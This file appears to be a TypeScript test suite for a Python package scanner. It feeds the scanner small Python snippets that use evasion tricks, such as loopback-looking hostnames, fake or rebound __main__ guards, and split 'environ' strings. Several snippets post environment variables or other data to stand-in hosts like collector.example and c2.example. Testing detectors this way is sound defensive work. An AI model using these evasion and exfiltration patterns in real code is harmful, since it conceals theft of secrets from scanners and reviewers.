// Ways around the scanner that rested on names or text an author chooses: each is written the way an attacker
// would, and the finding must survive. Exemptions may only rest on what the code does (resolved values, IP
// addresses parsed as such).
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FileReport } from '../../src/model/result.ts';
import { scanJson } from './run-cli.ts';

let dir: string;

async function scanSource(name: string, source: string): Promise<FileReport> {
  writeFileSync(join(dir, name), source);
  const { result } = await scanJson(name, dir);
  return result.targets[0].files[0];
}

const rulesOf = (file: FileReport) => file.findings.map((f) => f.rule);

describe('exemptions that rested on author-chosen text', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-bypass-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('a host name that starts with 127. is a name on the Internet, not the loopback address', async () => {
    const file = await scanSource(
      'dotted_name.py',
      'import requests\nrequests.post("https://127.0.0.1.collector.example/in", data=b"x")\n',
    );
    const call = file.findings.find((f) => f.rule === 'egress-network-call');
    assert.equal(call?.destination?.host, '127.0.0.1.collector.example');
    assert.notEqual(call?.destination?.kind, 'loopback');
    assert.ok(file.egress);
  });

  test('a local host assigned first and overwritten before use is not where the connection goes', async () => {
    // the last assignment decides; the overwritten "localhost" was a way to have the connection read as local
    const file = await scanSource(
      'overwritten_host.py',
      [
        'import socket, sys',
        'def send(host):',
        '    socket.create_connection((host, 8443)).sendall(b"x")',
        'h = "localhost"',
        'if sys.platform != "emscripten":',
        '    h = socket.gethostbyname(open("/etc/hostname").read())',
        'send(h)',
      ].join('\n'),
    );
    const call = file.findings.find((f) => f.rule === 'egress-network-call');
    assert.ok(call, rulesOf(file).join(', '));
    assert.notEqual(call.destination?.host, 'localhost');
    assert.ok(file.egress);
  });

  test('the real loopback address is still local', async () => {
    const file = await scanSource(
      'loopback.py',
      'import requests\nrequests.post("http://127.0.0.1:8080/in", data=b"x")\n',
    );
    assert.deepEqual(
      rulesOf(file).filter((rule) => rule === 'egress-network-call'),
      [],
    );
  });

  test('a backslash before @ does not hide the real host behind a loopback address', async () => {
    const file = await scanSource(
      'backslash_at.py',
      'import requests\nrequests.get("http://127.0.0.1\\\\@collector.example/in")\n',
    );
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.destination?.host, 'collector.example');
  });

  test('the text AF_UNIX near an Internet socket does not drop its connection', async () => {
    const source = [
      'import socket',
      's = socket.socket(socket.AF_INET if "AF_UNIX" else 0, socket.SOCK_STREAM)',
      's.connect(("c2.example", 4444))',
      '',
    ].join('\n');
    const file = await scanSource('af_unix_text.py', source);
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.destination?.host, 'c2.example');
  });

  test('a name rebound from a Unix socket to an Internet socket is still reported', async () => {
    const source = [
      'import socket',
      's = socket.socket(socket.AF_UNIX)',
      's = socket.socket(socket.AF_INET)',
      's.connect(("c2.example", 4444))',
      '',
    ].join('\n');
    const file = await scanSource('af_unix_rebound.py', source);
    assert.ok(rulesOf(file).includes('egress-network-call'));
  });

  test('a real Unix socket (family resolved to socket.AF_UNIX) stays local', async () => {
    const source = [
      'from socket import socket, AF_UNIX, SOCK_STREAM',
      's = socket(AF_UNIX, SOCK_STREAM)',
      's.connect(SOCK_PATH)',
      '',
    ].join('\n');
    const file = await scanSource('af_unix_real.py', source);
    assert.ok(!rulesOf(file).includes('egress-network-call'));
  });

  test('the else branch of `if __name__ == "__main__"` runs on import', async () => {
    const source = [
      'import requests',
      'if __name__ == "__main__":',
      '    pass',
      'else:',
      '    requests.post("https://collector.example/in", data=b"x")',
      '',
    ].join('\n');
    const file = await scanSource('main_else.py', source);
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import');
  });

  test('a guard whose condition only looks like the __main__ test runs on import', async () => {
    for (const condition of ['(__name__ == "__main__") == False', '__name__ == "__main__" if True else True']) {
      const source = [
        'import requests',
        `if ${condition}:`,
        '    requests.post("https://collector.example/in", data=b"x")',
        '',
      ].join('\n');
      const file = await scanSource('fake_guard.py', source);
      assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import', condition);
    }
  });

  test('__name__ rebound to "__main__" makes the guarded block run on import', async () => {
    const source = [
      'import requests',
      '__name__ = "__main__"',
      'if __name__ == "__main__":',
      '    requests.post("https://collector.example/in", data=b"x")',
      '',
    ].join('\n');
    const file = await scanSource('rebound_name.py', source);
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import');
  });

  test('__name__ rebound through globals(), setattr or update makes the guarded block run on import', async () => {
    for (const rebind of [
      'globals()["__name__"] = "__main__"',
      'setattr(sys.modules[__spec__.name], "__name__", "__main__")',
      'globals().update(__name__="__main__")',
    ]) {
      const source = [
        'import requests, sys',
        rebind,
        'if __name__ == "__main__":',
        '    requests.post("https://c.example/in")',
      ];
      const file = await scanSource('indirect_name.py', `${source.join('\n')}\n`);
      assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import', rebind);
    }
  });

  test('a star import may rebind __name__ unless it is of a standard module, whose __all__ never lists it', async () => {
    const guarded = (star: string) =>
      [star, 'import requests', 'if __name__ == "__main__":', '    requests.post("https://c.example/in")', ''].join(
        '\n',
      );
    const stdlib = await scanSource('star_stdlib.py', guarded('from tkinter import *'));
    assert.equal(stdlib.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
    const other = await scanSource('star_other.py', guarded('from helpers_pkg import *'));
    assert.equal(other.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import');
  });

  test('reading __name__ with getattr does not distrust the guard', async () => {
    const source = [
      'import requests',
      'label = getattr(requests, "__name__")',
      'if __name__ == "__main__":',
      '    requests.post("https://c.example/in")',
    ];
    const file = await scanSource('reads_name.py', `${source.join('\n')}\n`);
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
  });

  test('a real __main__ guard still marks its block as script-only', async () => {
    const source = [
      'import requests',
      'if __name__ == "__main__":',
      '    requests.post("https://collector.example/in", data=b"x")',
      '',
    ].join('\n');
    const file = await scanSource('main_guard.py', source);
    assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
  });

  test('data flow is followed in a file that never spells environ, getenv or any other source word', async () => {
    const source = [
      'import os, requests',
      'env = getattr(os, "envi" + "ron")',
      'requests.post("https://collector.example/in", json=dict(env))',
      '',
    ].join('\n');
    const file = await scanSource('spelled_apart.py', source);
    assert.ok(rulesOf(file).includes('exfiltration'), JSON.stringify(rulesOf(file)));
  });

  test('data flow is followed in a function that never spells a source word', async () => {
    const source = [
      'import os, requests',
      'NAME = "envi" + "ron"',
      'def send():',
      '    requests.post("https://collector.example/in", json=dict(getattr(os, NAME)))',
      'send()',
      '',
    ].join('\n');
    const file = await scanSource('function_spelled_apart.py', source);
    assert.ok(rulesOf(file).includes('exfiltration'), JSON.stringify(rulesOf(file)));
  });
});
